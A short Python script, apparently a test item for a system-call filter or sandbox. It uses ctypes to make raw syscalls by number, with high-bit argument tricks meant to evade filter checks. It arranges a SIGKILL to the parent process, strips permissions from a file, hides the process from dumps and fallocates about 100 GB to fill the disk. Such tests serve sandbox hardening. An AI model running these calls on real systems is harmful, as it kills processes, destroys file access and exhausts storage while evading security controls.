# Makes the calls that a filter of system calls may overlook: new ones, and old ones with odd numbers.
# Attacks: build/files/given
# %%
import ctypes
import os

call = ctypes.CDLL(None).syscall
high = 1 << 32
reading, writing = os.pipe()
numbers = {
    "own": (72, reading, high | 8, os.getppid()),  # fcntl, F_SETOWN
    "signal": (72, reading, high | 10, 9),  # F_SETSIG
    "alert": (72, reading, 4, os.O_ASYNC),  # F_SETFL
    "hide": (157, high | 4, 0, 0, 0, 0),  # prctl, PR_SET_DUMPABLE
    "close": (452, -100, b"given", 0, 0),  # fchmodat2
    "mark": (463, -100, b"given", 0, b"user.left", b"", 0),  # setxattrat
    "take": (285, writing, 1, 0, 10**11),  # fallocate
}
if os.uname().machine == "x86_64":  # where these are the numbers
    for arguments in numbers.values():
        call(*(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))
    os.write(writing, b"x")
# %% answers
